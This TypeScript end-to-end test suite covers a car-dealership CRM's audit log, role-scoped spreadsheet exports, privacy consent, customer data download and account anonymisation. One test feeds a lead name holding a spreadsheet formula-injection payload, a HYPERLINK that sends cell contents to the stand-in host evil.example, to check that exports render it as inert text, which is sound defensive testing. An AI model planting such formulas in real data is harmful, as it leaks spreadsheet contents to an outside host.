import ExcelJS from 'exceljs';
import request from 'supertest';
import { existsSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { bearer, binaryBody, hoursFromNow, ownerToken, staffToken, uniqueMobile, uniquePlate, uniqueVin } from '../support/api';
import { sql } from '../support/database';
import { shanghaiDateIn } from '../support/pages';
import { startTestServer, TestServer } from '../support/test-server';

interface Entry {
  actorType: string;
  actorId: number | null;
  actorName: string | null;
  action: string;
  entityType: string | null;
  entityId: string | null;
  before: Record<string, unknown> | null;
  after: Record<string, unknown> | null;
  ip: string | null;
  userAgent: string | null;
  requestId: string | null;
}

/**
 * The audit log records each sensitive action with who, what, which record, before/after and where from;
 * the database refuses to change or delete an entry. A customer can see the policy they accepted, accept a
 * new one, download their data and delete their account: personal fields go, ledgers stay consistent.
 */
describe('audit log and personal-data rights', () => {
  let server: TestServer;
  let admin: string;
  let manager: string;
  const api = () => request(server.baseUrl);

  const entries = async (query: Record<string, string | number>): Promise<Entry[]> => {
    const response = await api().get('/api/audit-logs').query({ pageSize: 100, ...query }).set(bearer(admin));
    expect(response.status).toBe(200);
    return response.body.items as Entry[];
  };

  /** Runs a scheduled job now (the suite's clock is controlled, running at real speed, so the dev route answers). */
  const runJob = async (job: string) => {
    const response = await api().post(`/api/dev/jobs/${job}/run`).set(bearer(admin));
    expect(response.body).toMatchObject({ ran: true });
  };

  beforeAll(async () => {
    server = await startTestServer({ env: { IMPORT_DIR: mkdtempSync(join(tmpdir(), 'privacy-e2e-')), CLOCK_MODE: 'controlled' } });
    admin = await staffToken(server.baseUrl, 'admin');
    manager = await staffToken(server.baseUrl, 'sm.shpd');
  });
  afterAll(() => server?.stop());

  it('records logins and failed logins with the address and user agent', async () => {
    const failed = await api().post('/api/auth/staff/login').set('user-agent', 'audit-e2e').send({ username: 'sc2.shpd', password: 'wrong-password' });
    expect(failed.status).toBe(401);
    await staffToken(server.baseUrl, 'sc2.shpd');
    const [failure] = await entries({ action: 'auth.login_failed', q: 'sc2.shpd' });
    expect(failure).toMatchObject({ actorType: 'ANONYMOUS', actorName: 'sc2.shpd', entityType: 'staff', after: { reason: 'wrong password' }, userAgent: 'audit-e2e' });
    expect(failure.ip).toBeTruthy();
    expect(failure.requestId).toBe(failed.headers['x-request-id']);
    const [staff] = await sql<{ id: number }>(server.databaseUrl, "SELECT id FROM staff WHERE username = 'sc2.shpd'");
    const logins = await entries({ action: 'auth.login', actorId: Number(staff.id) });
    expect(logins[0]).toMatchObject({ actorType: 'STAFF', actorName: expect.any(String), entityId: String(staff.id) });
  });

  it('records stage changes, reassignments, discount decisions and handovers with before and after', async () => {
    const created = await api().post('/api/leads').set(bearer(manager)).send({ name: '审计客户', mobile: uniqueMobile(), source: 'DOUYIN', storeId: 1, intendedModelId: 1 });
    expect(created.status).toBe(201);
    const leadId = created.body.id as number;
    const firstAssignee = created.body.assignedTo.id as number;
    const staged = await api().post(`/api/leads/${leadId}/stage`).set(bearer(manager)).send({ stage: 'CONTACTED', needs: { use: '家用' }, nextFollowUp: { dueAt: hoursFromNow(24), purpose: '邀约试驾' } });
    expect(staged.status).toBe(200);
    const [stage] = await entries({ action: 'lead.stage_changed', entityType: 'lead', entityId: leadId });
    expect(stage).toMatchObject({ actorType: 'STAFF', before: { stage: 'NEW' }, after: { stage: 'CONTACTED' } });

    const [colleague] = await sql<{ id: number }>(server.databaseUrl, "SELECT id FROM staff WHERE store_id = 1 AND role = 'CONSULTANT' AND id <> ? ORDER BY id LIMIT 1", [firstAssignee]);
    expect((await api().post(`/api/leads/${leadId}/assign`).set(bearer(manager)).send({ staffId: Number(colleague.id) })).status).toBe(200);
    const [reassigned] = await entries({ action: 'lead.reassigned', entityId: leadId });
    expect(reassigned).toMatchObject({ before: { assigneeId: firstAssignee }, after: { assigneeId: Number(colleague.id) } });

    const [holder] = await sql<{ username: string }>(server.databaseUrl, 'SELECT username FROM staff WHERE id = ?', [Number(colleague.id)]);
    const consultant = await staffToken(server.baseUrl, holder.username);
    const quote = await api().post(`/api/leads/${leadId}/quotes`).set(bearer(consultant)).send({ trimId: 1, discountFen: 3_000_000 });
    expect(quote.body.approvalStatus).toBe('PENDING');
    expect(quote.status).toBe(201);
    const director = await staffToken(server.baseUrl, 'director');
    expect((await api().post(`/api/approvals/${quote.body.id}/approve`).set(bearer(director)).send({ note: '批准' })).status).toBe(200);
    const [decided] = await entries({ action: 'quote.decided', entityId: quote.body.id });
    expect(decided).toMatchObject({ before: { approvalStatus: 'PENDING' }, after: { approvalStatus: 'APPROVED', note: '批准', leadId } });

    const handover = await api().post(`/api/staff/${colleague.id}/handover`).set(bearer(manager)).send({ toStaffId: firstAssignee });
    expect(handover.status).toBe(200);
    const [handed] = await entries({ action: 'lead.handover', entityId: Number(colleague.id) });
    expect(handed.after).toMatchObject({ toStaffId: firstAssignee, movedLeads: expect.any(Number) });
  });

  it('records points adjustments and staff role changes, with mobiles masked', async () => {
    const mobile = uniqueMobile();
    const owner = await ownerToken(server.baseUrl, mobile);
    const me = await api().get('/api/me').set(bearer(owner));
    const marketer = await staffToken(server.baseUrl, 'marketer');
    const adjusted = await api().post('/api/loyalty/adjustments').set(bearer(marketer)).send({ customerId: me.body.id, points: 300, reason: '补录活动积分', idempotencyKey: `audit-${Date.now()}` });
    expect(adjusted.status).toBe(201);
    const [adjustment] = await entries({ action: 'points.adjusted', entityId: me.body.id });
    expect(adjustment.after).toMatchObject({ points: 300, reason: '补录活动积分', balanceAfter: 300 });

    const created = await api().post('/api/staff').set(bearer(admin)).send({ username: `audit${Date.now() % 100000}`, password: 'Secret@12345', name: '审计员工', role: 'CONSULTANT', storeId: 1, mobile: '13912345678' });
    expect(created.status).toBe(201);
    const promoted = await api().patch(`/api/staff/${created.body.id}`).set(bearer(admin)).send({ role: 'STORE_MANAGER', storeId: 1 });
    expect(promoted.status).toBe(200);
    const [change] = await entries({ action: 'staff.updated', entityId: created.body.id });
    expect(change).toMatchObject({ before: { role: 'CONSULTANT' }, after: { role: 'STORE_MANAGER', passwordChanged: false } });
    const [creation] = await entries({ action: 'staff.created', entityId: created.body.id });
    expect(JSON.stringify(creation)).not.toContain('13912345678');
  });

  it('cannot be changed or deleted, not even with direct SQL, and only admins and the director read it', async () => {
    await expect(sql(server.databaseUrl, "UPDATE audit_logs SET action = 'x' ORDER BY id LIMIT 1")).rejects.toThrow(/append-only/);
    await expect(sql(server.databaseUrl, 'DELETE FROM audit_logs ORDER BY id LIMIT 1')).rejects.toThrow(/append-only/);
    const consultant = await staffToken(server.baseUrl, 'sc1.shpd');
    expect((await api().get('/api/audit-logs').set(bearer(consultant))).status).toBe(403);
    expect((await api().get('/api/audit-logs?action=nope').set(bearer(admin))).status).toBe(400);
  });

  it('exports the filtered, scoped list as .xlsx with mobiles as the role may see them, and audits it', async () => {
    const sheetOf = async (body: Buffer) => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(body as unknown as ArrayBuffer);
      return workbook.worksheets[0];
    };

    const mobile = uniqueMobile();
    await api().post('/api/leads').set(bearer(manager)).send({ name: '导出客户', mobile, source: 'AUTOHOME', storeId: 1, intendedModelId: 1 });
    const listed = await api().get('/api/leads?source=AUTOHOME&pageSize=100').set(bearer(manager));
    const exported = await api().get('/api/leads/export?source=AUTOHOME').set(bearer(manager)).buffer(true).parse(binaryBody);
    expect(exported.status).toBe(200);
    expect(exported.headers['content-type']).toContain('spreadsheetml');
    const leads = await sheetOf(exported.body as Buffer);
    expect(leads.getRow(1).values).toEqual(expect.arrayContaining(['线索编号', '客户', '手机', '来源', '阶段']));
    expect(leads.rowCount - 1).toBe(listed.body.total);
    const row = leads.getRows(2, leads.rowCount - 1)!.find((candidate) => candidate.getCell(2).value === '导出客户')!;
    expect(row.getCell(3).value).toBe(mobile); // a store manager phones customers: full mobile
    expect(row.getCell(4).value).toBe('汽车之家');

    // A consultant of another store exports nothing of this store's.
    const elsewhere = await staffToken(server.baseUrl, 'sc1.hzxh');
    const scoped = await sheetOf((await api().get('/api/leads/export?source=AUTOHOME').set(bearer(elsewhere)).buffer(true).parse(binaryBody)).body as Buffer);
    expect(scoped.getRows(2, Math.max(scoped.rowCount - 1, 1))?.some((candidate) => candidate.getCell(2).value === '导出客户') ?? false).toBe(false);

    // The marketer sees members with masked mobiles.
    const owner = await ownerToken(server.baseUrl, uniqueMobile());
    const me = (await api().get('/api/me').set(bearer(owner))).body as { id: number };
    const marketer = await staffToken(server.baseUrl, 'marketer');
    const members = await sheetOf((await api().get('/api/loyalty/members/export').set(bearer(marketer)).buffer(true).parse(binaryBody)).body as Buffer);
    const memberRow = members.getRows(2, members.rowCount - 1)!.find((candidate) => candidate.getCell(1).value === me.id)!;
    expect(String(memberRow.getCell(3).value)).toMatch(/^1\d{2}\*{4}\d{4}$/);

    const vehicles = await api().get('/api/vehicles/export').set(bearer(manager)).buffer(true).parse(binaryBody);
    expect(vehicles.status).toBe(200);

    const audits = await entries({ action: 'export.created' });
    expect(audits.map((entry) => entry.entityType)).toEqual(expect.arrayContaining(['leads', 'members', 'vehicles']));
    const leadExport = audits.find((entry) => entry.entityType === 'leads' && entry.actorId !== null)!;
    expect(leadExport.after).toMatchObject({ filters: { source: 'AUTOHOME' }, rows: expect.any(Number) });
  });

  it('exports text that starts like a formula as inert text (a leading apostrophe); numbers stay numbers', async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
    const created = await api().post('/api/leads').set(bearer(manager)).send({ name, mobile: uniqueMobile(), source: 'HOTLINE', storeId: 1, intendedModelId: 1, budgetMin: 150000 });
    expect(created.status).toBe(201);
    const exported = await api().get('/api/leads/export?source=HOTLINE').set(bearer(manager)).buffer(true).parse(binaryBody);
    expect(exported.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((candidate) => candidate.getCell(1).value === created.body.id)!;
    const cell = row.getCell(2);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    expect(cell.value).toBe(`'${name}`);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.Number);
    expect(row.getCell(9).value).toBe(1500);
  });

  it('shows a full mobile to a role that sees it masked only on request, and audits each look', async () => {
    const mobile = uniqueMobile();
    const lead = (await api().post('/api/leads').set(bearer(manager)).send({ name: '查看号码', mobile, source: 'HOTLINE', storeId: 1 })).body as { id: number };
    const director = await staffToken(server.baseUrl, 'director');
    const detail = await api().get(`/api/leads/${lead.id}`).set(bearer(director));
    expect(detail.body.mobile).toMatch(/^1\d{2}\*{4}\d{4}$/);
    const revealed = await api().post(`/api/leads/${lead.id}/reveal-mobile`).set(bearer(director));
    expect(revealed.status).toBe(200);
    expect(revealed.body).toEqual({ mobile });
    const [look] = await entries({ action: 'customer.mobile_revealed', entityType: 'lead', entityId: String(lead.id) });
    expect(look).toMatchObject({ actorType: 'STAFF', actorName: '周总监' });

    // Out of scope is a 404 like any other record; the marketer reveals a member's number the same way.
    const elsewhere = await staffToken(server.baseUrl, 'sm.hzxh');
    expect((await api().post(`/api/leads/${lead.id}/reveal-mobile`).set(bearer(elsewhere))).status).toBe(404);
    const memberMobile = uniqueMobile();
    const owner = await ownerToken(server.baseUrl, memberMobile);
    const me = (await api().get('/api/me').set(bearer(owner))).body as { id: number };
    const marketer = await staffToken(server.baseUrl, 'marketer');
    expect((await api().post(`/api/loyalty/members/${me.id}/reveal-mobile`).set(bearer(marketer))).body).toEqual({ mobile: memberMobile });
    expect(await entries({ action: 'customer.mobile_revealed', entityType: 'customer', entityId: String(me.id) })).toHaveLength(1);
  });

  it("exports a consultant's follow-up tasks, every row, and audits it", async () => {
    const consultant = await staffToken(server.baseUrl, 'sc1.shpd');
    const listed = (await api().get('/api/tasks/mine?status=OPEN').set(bearer(consultant))).body as unknown[];
    const exported = await api()
      .get('/api/tasks/mine/export?status=OPEN')
      .set(bearer(consultant))
      .buffer(true)
      .parse(binaryBody);
    expect(exported.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(exported.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.getRow(1).values).toEqual(expect.arrayContaining(['任务编号', '类型', '事项', '到期时间', '状态']));
    expect(sheet.rowCount - 1).toBe(listed.length);
    const [audit] = await entries({ action: 'export.created', entityType: 'tasks' });
    expect(audit.after).toMatchObject({ filters: { status: 'OPEN' }, rows: listed.length });
  });

  it('shows the policy accepted, asks again for a new version, and records the consent', async () => {
    const mobile = uniqueMobile();
    const owner = await ownerToken(server.baseUrl, mobile);
    const status = await api().get('/api/me/privacy').set(bearer(owner));
    expect(status.body).toMatchObject({ currentVersion: '2026-11', consent: { version: '2026-11' }, needsConsent: false });
    await sql(server.databaseUrl, "UPDATE customers SET consent_version = '2025-01' WHERE mobile = ?", [mobile]);
    expect((await api().get('/api/me/privacy').set(bearer(owner))).body.needsConsent).toBe(true);
    const outdated = await api().post('/api/me/privacy/consent').set(bearer(owner)).send({ version: '2025-01' });
    expect(outdated.body.code).toBe('CONSENT_VERSION_OUTDATED');
    const accepted = await api().post('/api/me/privacy/consent').set(bearer(owner)).send({ version: '2026-11' });
    expect(accepted.body).toMatchObject({ needsConsent: false, consent: { version: '2026-11' } });

    // A customer the store captured first has not consented until they sign in (which asks them to).
    const captured = uniqueMobile();
    await api().post('/api/leads').set(bearer(manager)).send({ name: '到店客户', mobile: captured, source: 'WALK_IN', storeId: 1 });
    expect((await sql<{ consent_at: Date | null }>(server.databaseUrl, 'SELECT consent_at FROM customers WHERE mobile = ?', [captured]))[0].consent_at).toBeNull();
    const signedIn = await ownerToken(server.baseUrl, captured);
    expect((await api().get('/api/me/privacy').set(bearer(signedIn))).body).toMatchObject({ needsConsent: false, consent: { version: '2026-11' } });
  });

  it('gives the customer all their data and deletes their account without breaking the ledgers', async () => {
    const mobile = uniqueMobile();
    const owner = await ownerToken(server.baseUrl, mobile);
    const me = (await api().get('/api/me').set(bearer(owner))).body as { id: number };
    await api().patch('/api/me').set(bearer(owner)).send({ name: '注销测试', birthday: '1990-05-01' });
    const marketer = await staffToken(server.baseUrl, 'marketer');
    await api().post('/api/loyalty/adjustments').set(bearer(marketer)).send({ customerId: me.id, points: 500, reason: '测试', idempotencyKey: `privacy-${Date.now()}` });
    const lead = await api().post('/api/leads').set(bearer(manager)).send({ name: '注销测试', mobile, source: 'DOUYIN', storeId: 1, intendedModelId: 1 });
    expect(lead.status).toBe(201);

    const exported = await api().get('/api/me/privacy/export').set(bearer(owner));
    expect(exported.status).toBe(200);
    expect(exported.headers['content-disposition']).toContain('attachment');
    expect(exported.body.profile).toMatchObject({ mobile, name: '注销测试' });
    expect(exported.body.leads).toHaveLength(1);
    expect(exported.body.points).toEqual([expect.objectContaining({ points: 500 })]);

    expect((await api().post('/api/me/privacy/deletion').set(bearer(owner)).send({ confirm: 'yes' })).status).toBe(400);
    const deleted = await api().post('/api/me/privacy/deletion').set(bearer(owner)).send({ confirm: '注销' });
    expect(deleted.status).toBe(200);
    expect((await api().get('/api/me').set(bearer(owner))).status).toBe(401);

    const [customer] = await sql<Record<string, unknown>>(server.databaseUrl, 'SELECT name, mobile, openid, birthday, anonymised_at FROM customers WHERE id = ?', [me.id]);
    expect(customer).toMatchObject({ name: null, mobile: null, openid: null, birthday: null });
    expect(customer.anonymised_at).not.toBeNull();
    const leads = await sql<{ name: string; mobile: string }>(server.databaseUrl, 'SELECT name, mobile FROM leads WHERE customer_id = ?', [me.id]);
    expect(leads).toEqual([{ name: '已注销客户', mobile: '' }]);
    const [ledger] = await sql<{ balance: number; entries: number }>(server.databaseUrl, 'SELECT a.balance, (SELECT COUNT(*) FROM points_entries e WHERE e.customer_id = a.customer_id) AS entries FROM points_accounts a WHERE a.customer_id = ?', [me.id]);
    expect(Number(ledger.balance)).toBe(500);
    expect(Number(ledger.entries)).toBe(1);
    const actions = (await entries({ actorType: 'CUSTOMER', actorId: me.id })).map((entry) => entry.action);
    expect(actions).toEqual(expect.arrayContaining(['customer.data_exported', 'customer.anonymised']));

  });

  it('deletes a customer who touched every module so that no table still holds their name, mobile or plate, and their download covers every module', async () => {
    const mobile = uniqueMobile();
    const plate = uniquePlate();
    const name = `注销${mobile.slice(-4)}号`;
    const owner = await ownerToken(server.baseUrl, mobile);
    await api().patch('/api/me').set(bearer(owner)).send({ name });
    const me = (await api().get('/api/me').set(bearer(owner))).body as { id: number };
    const advisor = await staffToken(server.baseUrl, 'sa.shpd');
    const marketer = await staffToken(server.baseUrl, 'marketer');
    // Sales: a lead (a task and a notification for its consultant) and a test drive the customer books themself.
    const lead = await api().post('/api/leads').set(bearer(manager)).send({ name, mobile, source: 'HOTLINE', storeId: 1, intendedModelId: 1, note: `${name} 车牌 ${plate}` });
    expect(lead.status).toBe(201);
    const [slot] = (await api().get(`/api/test-drives/slots?storeId=1&modelId=1&date=${shanghaiDateIn(3)}`)).body as Array<{ startAt: string }>;
    const testDrive = await api().post('/api/test-drives/bookings').set(bearer(owner)).send({ storeId: 1, modelId: 1, startAt: slot.startAt, contactName: name, mobile });
    expect(testDrive.status).toBe(201);
    // Their car with its plate and readings, bound in the mini-program, booked for a service and repaired.
    const vin = uniqueVin();
    const car = await api().post('/api/vehicles').set(bearer(advisor)).send({ vin, plate, modelId: 1, ownerMobile: mobile, ownerName: name, mileage: 100 });
    expect(car.status).toBe(201);
    expect((await api().post('/api/me/vehicles/bind').set(bearer(owner)).send({ vin, plate })).status).toBe(201);
    const serviceBooking = await api().post('/api/me/service-bookings').set(bearer(owner)).send({ vehicleId: car.body.id, storeId: 1, serviceType: 'INSPECTION', startAt: `${shanghaiDateIn(2)}T10:00:00+08:00`, itemIds: [], note: `${plate} 右前轮异响，联系 ${mobile}` });
    expect(serviceBooking.status).toBe(201);
    const order = await api().post('/api/service/work-orders').set(bearer(advisor)).send({ vehicleId: car.body.id, storeId: 1, serviceType: 'REPAIR', mileage: 200 });
    expect(order.status).toBe(201);
    await api().put(`/api/service/work-orders/${order.body.id}/items`).set(bearer(advisor)).send({ items: [{ name: '更换后视镜', labourHundredths: 100, parts: [] }] }).expect(200);
    for (const status of ['IN_PROGRESS', 'QUALITY_CHECK', 'READY', 'SETTLED']) {
      expect((await api().post(`/api/service/work-orders/${order.body.id}/status`).set(bearer(advisor)).send({ status })).status).toBe(200);
    }
    // The settlement's survey (its subject names the plate), answered low: that opens a complaint quoting it.
    await runJob('surveys');
    await runJob('dispatch');
    const [survey] = (await api().get('/api/me/surveys?pending=true').set(bearer(owner))).body.items as Array<{ id: number; subject: string }>;
    expect(survey.subject).toContain(plate);
    expect((await api().post(`/api/me/surveys/${survey.id}/answer`).set(bearer(owner)).send({ nps: 2, csat: 1, comment: `我是${name}，等了两个小时` })).status).toBe(200);
    // The lead sold: a quote, an order and the delivery of a second car.
    const quote = await api().post(`/api/leads/${lead.body.id}/quotes`).set(bearer(manager)).send({ trimId: 1, discountFen: 0 });
    expect(quote.status).toBe(201);
    const next = { dueAt: hoursFromNow(24), purpose: `回访 ${name}` };
    const stage = (body: object) => api().post(`/api/leads/${lead.body.id}/stage`).set(bearer(manager)).send(body);
    expect((await stage({ stage: 'QUOTED', nextFollowUp: next })).status).toBe(200);
    expect((await stage({ stage: 'ORDERED', order: { quoteId: quote.body.id, depositFen: 500_000, financePlan: `${name} 36 期` }, nextFollowUp: next })).status).toBe(200);
    expect((await stage({ stage: 'DELIVERED', delivery: { vin: uniqueVin(), pdiDone: true, insuranceDone: true, temporaryPlateDone: true, handoverDone: true } })).status).toBe(200);
    // Loyalty: points spent on a reward, and a friend referred with a note that names the customer.
    await api().post('/api/loyalty/adjustments').set(bearer(marketer)).send({ customerId: me.id, points: 2_000, reason: '测试', idempotencyKey: `every-module-${me.id}` }).expect(201);
    const voucher = ((await api().get('/api/loyalty/rewards')).body as Array<{ id: number; code: string }>).find((reward) => reward.code === 'SERVICE-200')!;
    expect((await api().post('/api/me/points/redemptions').set(bearer(owner)).send({ rewardId: voucher.id })).status).toBe(201);
    const referral = await api().post('/api/me/referrals').set(bearer(owner)).send({ name: '周杰', mobile: uniqueMobile(), storeId: 1, modelId: 1, note: `${name}（${mobile}）推荐的同事` });
    expect(referral.body).toMatchObject({ eligible: true });
    // Aftercare: a complaint whose notes quote them, and an import file waiting for its commit that lists them.
    const complaint = await api().post('/api/complaints').set(bearer(manager)).send({ customerId: me.id, storeId: 1, category: 'ATTITUDE', content: `${name}（${mobile}，${plate}）投诉接待态度` });
    expect(complaint.status).toBe(201);
    expect((await api().post(`/api/complaints/${complaint.body.id}/notes`).set(bearer(manager)).send({ note: `已致电 ${name} ${mobile}`, status: 'IN_PROGRESS' })).status).toBe(201);
    const importFile = new ExcelJS.Workbook();
    const importSheet = importFile.addWorksheet('导入数据');
    importSheet.addRow(['姓名*', '手机号*', 'VIN*', '车牌', '车型*', '交车日期*', '当前里程(公里)', '门店编码']);
    importSheet.addRow([name, mobile, uniqueVin(), null, '远峰 X SUV', '2024-01-15', 1000, 'SH-PD']);
    const pending = await api().post('/api/imports/customer-vehicles').set(bearer(admin)).attach('file', Buffer.from(await importFile.xlsx.writeBuffer()), { filename: '导入.xlsx' });
    expect(pending.status).toBe(202);
    for (let attempt = 0; attempt < 100 && (await api().get(`/api/imports/${pending.body.id}`).set(bearer(admin))).body.status === 'VALIDATING'; attempt += 1) {
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    const [pendingJob] = await sql<{ status: string; file_path: string }>(server.databaseUrl, 'SELECT status, file_path FROM import_jobs WHERE id = ?', [pending.body.id]);
    expect(pendingJob.status).toBe('VALIDATED');

    const exported = await api().get('/api/me/privacy/export').set(bearer(owner));
    expect(exported.status).toBe(200);
    expect(exported.body).toMatchObject({
      quotes: [expect.objectContaining({ id: quote.body.id, leadId: lead.body.id })],
      orders: [expect.objectContaining({ quoteId: quote.body.id, depositFen: 500_000, delivery: expect.objectContaining({ vin: expect.any(String) }) })],
      referrals: [expect.objectContaining({ id: referral.body.leadId })],
      redemptions: [expect.objectContaining({ points: expect.any(Number), reward: { name: expect.any(String) } })],
      testDrives: [expect.objectContaining({ id: testDrive.body.id })],
      serviceBookings: [expect.objectContaining({ id: serviceBooking.body.id })],
      surveys: [expect.objectContaining({ nps: 2 })],
    });
    expect(exported.body.mileageReadings).toEqual(expect.arrayContaining([expect.objectContaining({ km: 100 }), expect.objectContaining({ km: 200 })]));

    expect((await api().post('/api/me/privacy/deletion').set(bearer(owner)).send({ confirm: '注销' })).status).toBe(200);

    // Every text and JSON column of every table, searched for each of the three.
    const columns = await sql<{ table_name: string; column_name: string }>(
      server.databaseUrl,
      "SELECT table_name AS table_name, column_name AS column_name FROM information_schema.columns WHERE table_schema = DATABASE() AND data_type IN ('char', 'varchar', 'text', 'mediumtext', 'longtext', 'json')",
    );
    const found: string[] = [];
    for (const { table_name: table, column_name: column } of columns) {
      for (const needle of [name, mobile, plate]) {
        const [row] = await sql<{ n: number }>(server.databaseUrl, `SELECT COUNT(*) AS n FROM \`${table}\` WHERE \`${column}\` LIKE CONCAT('%', ?, '%')`, [needle]);
        if (Number(row.n) > 0) found.push(`${table}.${column}: ${needle === name ? 'name' : needle === mobile ? 'mobile' : 'plate'}`);
      }
    }
    // Only the append-only audit log may still hold them (actor names as they were then; mobiles there are masked).
    expect(found.filter((place) => !place.startsWith('audit_logs.'))).toEqual([]);
    console.log(`after deletion, the audit log still holds: ${found.join(', ') || 'nothing'}`);
    expect(found.filter((place) => place.endsWith(': mobile'))).toEqual([]);

    // What others need stays, without them: the friend's lead keeps the note, the order its plan, the event its JSON.
    const [friendLead] = await sql<{ note: string }>(server.databaseUrl, 'SELECT note FROM leads WHERE id = ?', [referral.body.leadId]);
    expect(friendLead.note).toBe('已注销客户（***）推荐的同事');
    const [sold] = await sql<{ finance_plan: string }>(server.databaseUrl, 'SELECT finance_plan FROM sales_orders WHERE quote_id = ?', [quote.body.id]);
    expect(sold.finance_plan).toBe('已注销客户 36 期');
    const [settled] = await sql<{ subject: string }>(server.databaseUrl, "SELECT JSON_VALUE(payload, '$.subject') AS subject FROM domain_events WHERE type = 'service.settled' AND subject_id = ?", [order.body.id]);
    expect(settled.subject).toBe('保养维修 · ***');

    const [voided] = await sql<{ status: string }>(server.databaseUrl, 'SELECT status FROM import_jobs WHERE id = ?', [pending.body.id]);
    expect(voided.status).toBe('FAILED');
    expect(existsSync(pendingJob.file_path)).toBe(false);
  });
});
